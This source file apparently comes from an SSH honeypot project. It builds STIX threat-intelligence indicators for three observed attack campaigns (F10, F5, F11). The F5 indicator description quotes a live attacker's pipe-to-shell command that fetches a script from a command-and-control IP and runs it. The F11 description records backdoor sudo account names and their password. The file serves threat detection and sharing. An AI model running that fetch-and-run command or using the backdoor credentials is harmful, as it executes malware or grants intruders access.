-- ===== src/Stix/Servers.antt =====
-- Sections 8, 9 and 10 of `build_bundle` of analysis/gen_stix_bundle.py: the servers of F10, F5 and
-- F11.
use ssh_honeypot.Base.{none, List, [], ◌∷◌, ◌++◌, nat_eq, list_eq}
use ssh_honeypot.Base.Dict.{Dict}
use ssh_honeypot.Base.Results.{Result, ok, ◌>>=◌, look}
use ssh_honeypot.Base.Text.{Str, lit, show}
use ssh_honeypot.Stix.{Server, f5_c2_ip, f5_c2_url}
use ssh_honeypot.Stix.Attackers.{id_of, ip_pattern}
use ssh_honeypot.Stix.Objects.{
  AttackPattern, Indicator, ipv4_addr, url, indicator, relationship, Object, Step, append, raise,
  Library,
}

module _ (lib : Library) where
  -- `indicator -> "indicates" -> attack-pattern`, with no description.
  unfoldable pub indicates : Str → Str → Str → Indicator → AttackPattern → Object
  indicates kind address fid ind ap = relationship (record {
    id = id_of lib (lit "relationship") (kind ∷ address ∷ fid ∷ []);
    relationship_type = lit "indicates";
    source_ref = ind.id;
    target_ref = ap.id;
    description = none;
  })

  unfoldable pub f10_indicator : Server → Indicator
  f10_indicator c2 = record {
    id = id_of lib (lit "indicator") (lit "c2" ∷ c2.ip ∷ lit "F10" ∷ []);
    name = lit "F10 C2 server: " ++ c2.ip ++ lit ":" ++ show c2.port;
    description =
        lit "F10 ELF echo injector C2 server. "
        ++ lit "Binaries served on port "
        ++ show c2.port
        ++ lit " at: "
        ++ c2.paths
        ++ lit ". "
        ++ lit "Both C2s unreachable throughout campaign -- every session fell back to "
        ++ lit "hex echo injection. Confirmed via wget/curl URL log in session.log.";
    pattern = ip_pattern c2.ip;
  }

  -- The body of the loop over F10_C2_IPS.
  unfoldable pub f10_server_entries : Dict Str AttackPattern → Server → Result (List Step)
  f10_server_entries aps c2 = look (lit "F10") aps >>= λ ap. ok (
      append (ipv4_addr c2.ip)
      ∷ raise "ipv4_addr" 1
      ∷ append (indicator (f10_indicator c2))
      ∷ raise "indicator" 1
      ∷ append (indicates (lit "c2-ind-to-ap") c2.ip (lit "F10") (f10_indicator c2) ap)
      ∷ raise "relationship" 1
      ∷ [])

  unfoldable pub f5_ip_indicator : Indicator
  f5_ip_indicator = record {
    id = id_of lib (lit "indicator") (lit "c2" ∷ f5_c2_ip ∷ lit "F5" ∷ []);
    name = lit "F5 C2 server: " ++ f5_c2_ip;
    description =
        lit "C2 server for F5 fileless dropper. "
        ++ lit
            "wget|sh target: wget --no-check-certificate -qO- https://14.46.136.77/sh | sh -s ssh. "
        ++ lit "auth_ok hex beacon sent before fetch. "
        ++ lit "Step vector ('ssh') passed as argument to the downloaded script.";
    pattern = ip_pattern f5_c2_ip;
  }

  unfoldable pub f5_url_indicator : Indicator
  f5_url_indicator = record {
    id = id_of lib (lit "indicator") (lit "c2-url" ∷ f5_c2_url ∷ lit "F5" ∷ []);
    name = lit "F5 C2 dropper URL: " ++ f5_c2_url;
    description =
        lit "Exact C2 URL for F5 fileless exec. "
        ++ lit "Script piped directly into sh -- nothing written to disk.";
    pattern = lit "[url:value = '" ++ f5_c2_url ++ lit "']";
  }

  -- Section 9.
  unfoldable pub f5_entries : Dict Str AttackPattern → Result (List Step)
  f5_entries aps = look (lit "F5") aps >>= λ ap. ok (
      append (ipv4_addr f5_c2_ip)
      ∷ raise "ipv4_addr" 1
      ∷ append (url f5_c2_url)
      ∷ raise "url" 1
      ∷ append (indicator f5_ip_indicator)
      ∷ raise "indicator" 1
      ∷ append (indicator f5_url_indicator)
      ∷ raise "indicator" 1
      ∷ append (indicates (lit "c2-ip-to-ap") f5_c2_ip (lit "F5") f5_ip_indicator ap)
      ∷ append (indicates (lit "c2-url-to-ap") f5_c2_url (lit "F5") f5_url_indicator ap)
      ∷ raise "relationship" 2
      ∷ [])

  unfoldable pub f11_indicator : Str → Indicator
  f11_indicator ip = record {
    id = id_of lib (lit "indicator") (lit "c2" ∷ ip ∷ lit "F11" ∷ []);
    name = lit "F11 C2 server: " ++ ip;
    description =
        lit "Meow dropper C2 (F11). Serves /meow (x86-64) and /meowarm64 (ARM64). "
        ++ lit "Creates backdoor sudo users admin1+user1 (password: modzmodz). "
        ++ lit "Writes credential string to /tmp/mew.";
    pattern = ip_pattern ip;
  }

  -- The body of the loop over F11_C2_IPS.
  unfoldable pub f11_server_entries : Dict Str AttackPattern → Str → Result (List Step)
  f11_server_entries aps ip = look (lit "F11") aps >>= λ ap. ok (
      append (ipv4_addr ip)
      ∷ raise "ipv4_addr" 1
      ∷ append (indicator (f11_indicator ip))
      ∷ raise "indicator" 1
      ∷ append (indicates (lit "c2-ind-to-ap") ip (lit "F11") (f11_indicator ip) ap)
      ∷ raise "relationship" 1
      ∷ [])
